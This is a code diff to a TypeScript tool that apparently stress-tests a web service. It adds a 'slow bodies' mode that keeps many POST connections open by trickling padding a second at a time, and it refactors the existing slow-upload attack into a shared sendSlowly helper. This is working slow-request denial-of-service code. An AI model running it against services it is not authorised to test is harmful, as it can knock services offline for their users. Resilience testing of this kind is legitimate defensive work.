@@ -16,6 +16,9 @@ const MAX_OPEN = 256;
 const SLOW_BYTES = 8_000_000;
 const PIECE = Buffer.alloc(20_000, 'p');
 const PIECE_EVERY_MS = 1_000;
+/** In so many seconds as a request may take to arrive, less a few, and in all below the largest that is taken. */
+const BODY_PIECES = 25;
+const BODY_PIECE = Buffer.alloc(36_000, ' ');
 /** As refusals ask for at least: a flood beyond all limits is not what pools are for. */
 const PAUSE_MS = 1_000;
 const LATER_MS = 86_400_000;
@@ -94,10 +97,20 @@ async function reserve(url: string, key: string, contentType: string, bytes: num
 async function slowUpload({ url, keys }: Extract<AttackJob, { kind: 'slow uploads' }>): Promise<void> {
   const upload = await reserve(url, keys[made % keys.length]!, 'video/mp4', SLOW_BYTES);
   if (upload === null) return;
+  const headers = { 'content-type': 'video/mp4', 'content-length': SLOW_BYTES };
+  await sendSlowly(upload.uploadUrl, { method: 'PUT', headers }, PIECE);
+}
+
+async function slowBody({ url, keys, path }: Extract<AttackJob, { kind: 'slow bodies' }>): Promise<void> {
+  const headers = { ...asJson(keys[++made % keys.length]!), 'content-length': BODY_PIECE.length * BODY_PIECES };
+  await sendSlowly(url + path, { method: 'POST', headers }, BODY_PIECE);
+}
+
+/** A piece a second until there is an answer, or the connection is closed. */
+async function sendSlowly(url: string, request: { method: string; headers: object }, piece: Buffer): Promise<void> {
   await new Promise<void>((resolve) => {
-    const headers = { 'content-type': 'video/mp4', 'content-length': SLOW_BYTES };
-    const sending = httpRequest(upload.uploadUrl, { method: 'PUT', headers, agent: false, signal });
-    const next = setInterval(() => sending.write(PIECE), PIECE_EVERY_MS);
+    const sending = httpRequest(url, { ...request, headers: { ...request.headers }, agent: false, signal });
+    const next = setInterval(() => sending.write(piece), PIECE_EVERY_MS);
     sending.on('response', (answer) => {
       count(String(answer.statusCode));
       sending.destroy();
@@ -108,7 +121,7 @@ async function slowUpload({ url, keys }: Extract<AttackJob, { kind: 'slow upload
         clearInterval(next);
         resolve();
       });
-    sending.write(PIECE);
+    sending.write(piece);
   });
 }
 
@@ -194,6 +207,8 @@ async function attack(job: AttackJob): Promise<void> {
       return requests(job);
     case 'slow uploads':
       return overAndOver(job.atOnce, () => slowUpload(job));
+    case 'slow bodies':
+      return overAndOver(job.atOnce, () => slowBody(job));
     case 'slow readers':
       return overAndOver(job.atOnce, () => slowRead(job));
     case 'nothing': {
